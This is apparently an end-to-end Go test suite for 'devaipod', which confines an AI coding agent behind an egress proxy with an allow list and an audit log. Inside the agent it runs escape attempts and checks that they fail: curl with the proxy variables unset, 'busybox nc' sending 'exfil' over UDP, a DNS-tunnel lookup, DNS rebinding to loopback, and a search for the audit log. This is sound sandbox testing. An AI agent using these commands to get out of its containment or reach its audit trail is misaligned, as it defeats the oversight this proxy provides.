package main

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os/exec"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/devaipod/devaipod/proxy"
)

// testInternet is the e2e tests' "internet": servers on this machine's
// loopback. Rootless pods reach the host's loopback at 10.0.2.2 only with
// [network] host_loopback = true, and only from the pod's network namespace
// (the proxy), never from the agent's.
type testInternet struct {
	tls, plain *httptest.Server
	tlsPort    int
	plainPort  int
	udpPort    int
	hits       atomic.Int64 // requests that reached a server
	udpHits    atomic.Int64
}

func startInternet(t *testing.T) *testInternet {
	t.Helper()
	in := &testInternet{}
	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		in.hits.Add(1)
		fmt.Fprintf(w, "hello from %s%s", r.Host, r.URL.Path)
	})
	in.tls = httptest.NewTLSServer(handler)
	in.plain = httptest.NewServer(handler)
	t.Cleanup(in.tls.Close)
	t.Cleanup(in.plain.Close)
	in.tlsPort = port(t, in.tls.URL)
	in.plainPort = port(t, in.plain.URL)
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { udp.Close() })
	in.udpPort = udp.LocalAddr().(*net.UDPAddr).Port
	go func() {
		buf := make([]byte, 1500)
		for {
			if _, _, err := udp.ReadFrom(buf); err != nil {
				return
			}
			in.udpHits.Add(1)
		}
	}()
	return in
}

func port(t *testing.T, raw string) int {
	u, err := url.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	_, p, _ := net.SplitHostPort(u.Host)
	var n int
	fmt.Sscan(p, &n)
	return n
}

// TestE2EEgress attacks the proxy and the agent's network from inside the
// agent.
func TestE2EEgress(t *testing.T) {
	e2e(t)
	inet := startInternet(t)
	cfg := standInConfig(t, fmt.Sprintf(`[network]
host_loopback = true
no_default_allow = true
allow = ["api.allowed.test:%d", "plain.allowed.test:%d", "rebind.test:3129", "10.0.2.2:*"]
extra_hosts = ["api.allowed.test:10.0.2.2", "plain.allowed.test:10.0.2.2", "denied.test:10.0.2.2", "rebind.test:127.0.0.1"]
`, inet.tlsPort, inet.plainPort))
	name := uniqueName("e2e-net")
	cleanup(t, name)
	up := mustDevaipod(t, nil, "--config", cfg, "up", fixtureRepo(t), "--name", name)
	if !strings.Contains(up.stderr, "checking its containment") {
		t.Errorf("up did not run its containment check:\n%s", up)
	}
	agent := func(script string) result {
		return devaipod(t, nil, "exec", name, "-c", "agent", "--", "sh", "-c", script)
	}
	tlsURL := fmt.Sprintf("https://api.allowed.test:%d/hello", inet.tlsPort)
	deniedTLS := fmt.Sprintf("https://denied.test:%d/", inet.tlsPort)
	deniedPlain := fmt.Sprintf("http://denied.test:%d/", inet.plainPort)

	t.Run("allowed host over HTTPS via CONNECT", func(t *testing.T) {
		r := agent("curl -sSk " + tlsURL)
		if r.stdout != fmt.Sprintf("hello from api.allowed.test:%d/hello", inet.tlsPort) {
			t.Errorf("%s", r)
		}
	})
	t.Run("allowed host over plain HTTP", func(t *testing.T) {
		r := agent(fmt.Sprintf("curl -sS http://plain.allowed.test:%d/x", inet.plainPort))
		if !strings.HasPrefix(r.stdout, "hello from plain.allowed.test") {
			t.Errorf("%s", r)
		}
	})
	t.Run("host off the list gets 403 with the reason", func(t *testing.T) {
		r := agent("curl -sS " + deniedPlain)
		for _, want := range []string{"devaipod proxy", "denied.test", "devaipod allow " + name} {
			if !strings.Contains(r.stdout, want) {
				t.Errorf("plain HTTP denial lacks %q: %s", want, r)
			}
		}
		r = agent("curl -sk -o /dev/null -w '%{http_connect}' " + deniedTLS)
		if r.stdout != "403" {
			t.Errorf("CONNECT to a denied host answered %q: %s", r.stdout, r)
		}
	})
	t.Run("IP literal and private addresses get 403", func(t *testing.T) {
		// 127.0.0.1:3129 through the proxy is the pod's own loopback (the
		// workspace's canary): an IP literal no rule names.
		r := agent("curl -s -o /dev/null -w '%{http_code}' --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:3129/")
		if r.stdout != "403" {
			t.Errorf("IP literal: %q %s", r.stdout, r)
		}
		// rebind.test is allowed by name but resolves to 127.0.0.1, where
		// the canary listens: each way of asking is refused on its own.
		r = agent("curl -s -o /dev/null -w '%{http_code}' --noproxy '' -x http://127.0.0.1:3128 http://rebind.test:3129/")
		if r.stdout != "403" {
			t.Errorf("plain HTTP to a name resolving to loopback: %q %s", r.stdout, r)
		}
		r = agent("curl -sk -o /dev/null -w '%{http_connect}' https://rebind.test:3129/")
		if r.stdout != "403" {
			t.Errorf("CONNECT to a name resolving to loopback: %q %s", r.stdout, r)
		}
	})
	t.Run("no way around the proxy", func(t *testing.T) {
		// Each attack reaches a server of the test's when the workspace,
		// on the pod's network, makes it (the controls below): so it
		// fails in the agent because the agent has no way out, not
		// because nothing listens.
		attacks := []string{
			fmt.Sprintf("env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy curl -sS --max-time 3 http://10.0.2.2:%d/", inet.plainPort),
			fmt.Sprintf("curl -sS --max-time 3 --noproxy '*' -k https://10.0.2.2:%d/", inet.tlsPort),
			fmt.Sprintf("echo exfil | busybox nc -u -w 1 10.0.2.2 %d", inet.udpPort),
			// A DNS query, to the test's UDP server as the name server.
			fmt.Sprintf("busybox nslookup exfil.test 10.0.2.2:%d", inet.udpPort),
		}
		before, udpBefore := inet.hits.Load(), inet.udpHits.Load()
		for _, a := range attacks {
			if r := agent(a); r.code == 0 {
				t.Errorf("attack succeeded: %s\n%s", a, r)
			}
		}
		// IPv6: the pod has none (slirp4netns without --enable-ipv6), so
		// no control can show this one reaching anything; the route
		// check below is what holds for it.
		if r := agent(fmt.Sprintf("curl -6 -sS --max-time 3 --noproxy '*' http://[fd00::2]:%d/", inet.plainPort)); r.code == 0 {
			t.Errorf("IPv6 attack succeeded: %s", r)
		}
		if r := agent("cat /proc/net/route /proc/net/ipv6_route | grep -v '^Iface' | grep -v ' lo$' | grep -vi 'lo *$' | head"); strings.TrimSpace(r.stdout) != "" {
			t.Errorf("agent has routes: %s", r.stdout)
		}
		time.Sleep(500 * time.Millisecond)
		if inet.hits.Load() != before || inet.udpHits.Load() != udpBefore {
			t.Errorf("a direct attack reached the test's servers (http %d->%d, udp %d->%d)", before, inet.hits.Load(), udpBefore, inet.udpHits.Load())
		}
		before, udpBefore = inet.hits.Load(), inet.udpHits.Load()
		for _, a := range attacks {
			devaipod(t, nil, "exec", name, "--", "sh", "-c", a)
		}
		time.Sleep(500 * time.Millisecond)
		if http, udp := inet.hits.Load()-before, inet.udpHits.Load()-udpBefore; http != 2 || udp < 2 {
			t.Errorf("controls: the attacks made from the workspace reached the test's servers %d times over HTTP (want 2) and %d over UDP (want 2 or more, DNS retries): the agent's attempts prove nothing", http, udp)
		}
	})
	t.Run("allow and deny change the policy without a restart", func(t *testing.T) {
		rule := fmt.Sprintf("denied.test:%d", inet.tlsPort)
		mustDevaipod(t, nil, "allow", name, rule)
		if r := agent("curl -sSk " + deniedTLS); !strings.HasPrefix(r.stdout, "hello from denied.test") {
			t.Errorf("after allow: %s", r)
		}
		if r := mustDevaipod(t, nil, "deny", name, rule); r.stdout != "Pod "+name+" denied "+rule+".\n" {
			t.Errorf("deny says %q", r.stdout)
		}
		if r := agent("curl -sk -o /dev/null -w '%{http_connect}' " + deniedTLS); r.stdout != "403" {
			t.Errorf("after deny: %s", r)
		}
		if r := devaipod(t, nil, "allow", name, "bad rule/x"); r.code == 0 {
			t.Errorf("a malformed rule was accepted: %s", r)
		}
	})
	t.Run("every decision is audited", func(t *testing.T) {
		r := mustDevaipod(t, nil, "audit", name, "-o", "json")
		var allowed, denied, literal bool
		rebound := 0
		for _, line := range strings.Split(strings.TrimSpace(r.stdout), "\n") {
			var rec proxy.Record
			if err := json.Unmarshal([]byte(line), &rec); err != nil {
				t.Fatalf("audit line %q: %v", line, err)
			}
			switch {
			case rec.Host == "api.allowed.test" && rec.Decision == "allow" && rec.BytesDown > 0 && rec.Rule != "":
				allowed = true
			case rec.Host == "denied.test" && rec.Decision == "deny" && rec.Reason == proxy.ReasonNotAllowed:
				denied = true
			case rec.Host == "127.0.0.1" && rec.Port == 3129 && rec.Decision == "deny" && rec.Reason == proxy.ReasonIPLiteral:
				literal = true
			case rec.Host == "rebind.test" && rec.Decision == "deny" && rec.Reason == proxy.ReasonPrivateAddress:
				rebound++ // plain HTTP and CONNECT
			}
		}
		if !allowed || !denied || !literal || rebound != 2 {
			t.Errorf("audit lacks the allowed CONNECT (%v), the denial (%v), the IP literal (%v) or both refusals of the name resolving to loopback (%d of 2):\n%s",
				allowed, denied, literal, rebound, r.stdout)
		}
		r = mustDevaipod(t, nil, "audit", name, "--denied")
		if strings.Contains(r.stdout, "\tallow\t") || strings.Contains(r.stdout, " allow ") || !strings.Contains(r.stdout, "deny") {
			t.Errorf("audit --denied:\n%s", r.stdout)
		}
	})
	// A flood of denials is counted, not written one by one: it would
	// otherwise push every earlier record out of the bounded log.
	const flood = 250
	floodWritten := 0
	t.Run("a flood of denials is counted, not written one by one", func(t *testing.T) {
		r := agent(fmt.Sprintf(`i=0; while [ $i -lt %d ]; do i=$((i+1)); curl -s -o /dev/null -w '%%{http_code}\n' http://flood.test/$i; done | sort | uniq -c`, flood))
		if got := strings.Join(strings.Fields(r.stdout), " "); got != fmt.Sprintf("%d 403", flood) {
			t.Fatalf("the agent's flood of denied requests: %s", r)
		}
		floodWritten = strings.Count(mustDevaipod(t, nil, "audit", name, "-o", "json").stdout, `"host":"flood.test"`)
		if floodWritten == 0 || floodWritten > 110 {
			t.Errorf("%d of the %d denied requests written one by one; want the first hundred or so", floodWritten, flood)
		}
	})
	// The agent can make allowed requests as fast as the host answers:
	// each is audited, and a flood of them moves the bounded log along.
	// The records of what it was refused stay all the same.
	t.Run("a flood of allowed requests does not push the denials out", func(t *testing.T) {
		// On one connection: about 17 MiB of records, more than twice the
		// log's bound of 8 MiB.
		const allowed = 70000
		r := agent(fmt.Sprintf(`curl -s -o /dev/null -w '%%{http_code}\n' "http://plain.allowed.test:%d/flood/[1-%d]" | sort | uniq -c`, inet.plainPort, allowed))
		if got := strings.Join(strings.Fields(r.stdout), " "); got != fmt.Sprintf("%d 200", allowed) {
			t.Fatalf("the agent's flood of allowed requests: %s", r)
		}
		audit := mustDevaipod(t, nil, "audit", name, "-o", "json").stdout
		// The flood reached past the first file moved aside: the
		// allowed CONNECT of the first subtest is gone with it...
		if strings.Contains(audit, `"host":"api.allowed.test"`) || strings.Count(audit, `"host":"plain.allowed.test"`) >= allowed {
			t.Fatalf("the flood did not move the log past its bound: %d of its records are there, and the first allowed CONNECT is %v",
				strings.Count(audit, `"host":"plain.allowed.test"`), strings.Contains(audit, `"host":"api.allowed.test"`))
		}
		// ...but not the refusals, from before it, in order.
		for _, want := range []string{`"host":"denied.test"`, `"host":"127.0.0.1","port":3129`, `"host":"rebind.test"`} {
			if !strings.Contains(audit, want) {
				t.Errorf("a denial (%s) from before the flood is gone", want)
			}
		}
		if got := strings.Count(audit, `"host":"flood.test"`); got != floodWritten {
			t.Errorf("%d of the %d denials written before the flood are left", got, floodWritten)
		}
		// The file's own order (audit sorts by time): the kept records
		// first.
		file, err := exec.Command("podman", "exec", "devaipod-"+name+"-proxy", "/devaipod-helper", "audit-log", "/var/lib/devaipod/proxy/audit.log").Output()
		denied, flood := strings.Index(string(file), `"host":"denied.test"`), strings.Index(string(file), `"host":"plain.allowed.test"`)
		if err != nil || denied < 0 || flood < 0 || denied > flood {
			t.Errorf("the proxy's audit log file (%v) does not give the kept denials (at %d) before the flood (at %d)", err, denied, flood)
		}
	})
	t.Run("the audit is a bounded file out of the agent's reach, and outlives a stop", func(t *testing.T) {
		if r := agent("ls /var/lib/devaipod/proxy 2>&1; find / -name audit.log 2>/dev/null"); strings.Contains(r.stdout, "audit.log") {
			t.Errorf("the agent sees the proxy's audit log: %s", r)
		}
		file, err := exec.Command("podman", "exec", "devaipod-"+name+"-proxy", "/devaipod-helper", "audit-log", "/var/lib/devaipod/proxy/audit.log").CombinedOutput()
		if err != nil || !strings.Contains(string(file), `"host":"denied.test"`) {
			t.Fatalf("the proxy's audit log file: %v\n%s", err, file)
		}
		running := mustDevaipod(t, nil, "audit", name, "-o", "json")
		if got, want := strings.Count(running.stdout, `"event":"request"`), strings.Count(string(file), `"event":"request"`); got != want || got == 0 {
			t.Errorf("audit shows %d request records, the file holds %d", got, want)
		}
		mustDevaipod(t, nil, "stop", name)
		stopped := mustDevaipod(t, nil, "audit", name, "-o", "json")
		// The proxy writes what it counted when it stops (or a minute
		// after the first it counted).
		dropped := int64(0)
		withoutDropped := func(out string, count bool) string {
			var kept []string
			for _, line := range strings.SplitAfter(out, "\n") {
				var rec proxy.Record
				if json.Unmarshal([]byte(line), &rec) == nil && rec.Event == proxy.EventDropped {
					if count && rec.Reason == proxy.ReasonNotAllowed {
						dropped += rec.Count
					}
					continue
				}
				kept = append(kept, line)
			}
			return strings.Join(kept, "")
		}
		// Copied out of the stopped proxy's volume, not its container
		// log, which the flood cut.
		if got, want := withoutDropped(stopped.stdout, true), withoutDropped(running.stdout, false); got != want {
			t.Errorf("audit of the stopped pod differs from the running one's: %d bytes, %d denied.test records; want %d bytes, %d",
				len(got), strings.Count(got, `"host":"denied.test"`), len(want), strings.Count(want, `"host":"denied.test"`))
		}
		if floodWritten > 0 && dropped != int64(flood-floodWritten) {
			t.Errorf("the stopped pod's audit counts %d dropped denials; the flood made %d and %d were written:\n%s", dropped, flood, floodWritten, stopped.stdout)
		}
		if text := mustDevaipod(t, nil, "audit", name, "--denied").stdout; !strings.Contains(text, " more not-allowed since ") {
			t.Errorf("audit --denied does not show the dropped denials:\n%s", text)
		}
	})
}

// TestE2ENetworkModes checks mode = "none" (no way out at all) and
// mode = "open" (warned about).
func TestE2ENetworkModes(t *testing.T) {
	e2e(t)
	inet := startInternet(t)
	for _, mode := range []string{"none", "open"} {
		t.Run(mode, func(t *testing.T) {
			name := uniqueName("e2e-" + mode)
			cleanup(t, name)
			cfg := standInConfig(t, "[network]\nhost_loopback = true\nmode = \""+mode+"\"\n")
			up := mustDevaipod(t, nil, "--config", cfg, "up", fixtureRepo(t), "--name", name)
			r := devaipod(t, nil, "exec", name, "-c", "agent", "--", "sh", "-c",
				fmt.Sprintf("printenv HTTPS_PROXY; curl -sS --max-time 3 http://10.0.2.2:%d/", inet.plainPort))
			switch mode {
			case "none":
				if r.code == 0 || strings.Contains(r.stdout, "127.0.0.1:3128") {
					t.Errorf("mode none: the agent got out or has a proxy: %s", r)
				}
				if a := devaipod(t, nil, "audit", name); a.code == 0 {
					t.Errorf("audit of a pod without proxy succeeded: %s", a)
				}
			case "open":
				if !strings.Contains(up.stderr, "egress is unrestricted") {
					t.Errorf("mode open: no warning:\n%s", up)
				}
				if !strings.HasPrefix(r.stdout, "hello from") {
					t.Errorf("mode open: the agent cannot reach the network: %s", r)
				}
			}
		})
	}
}
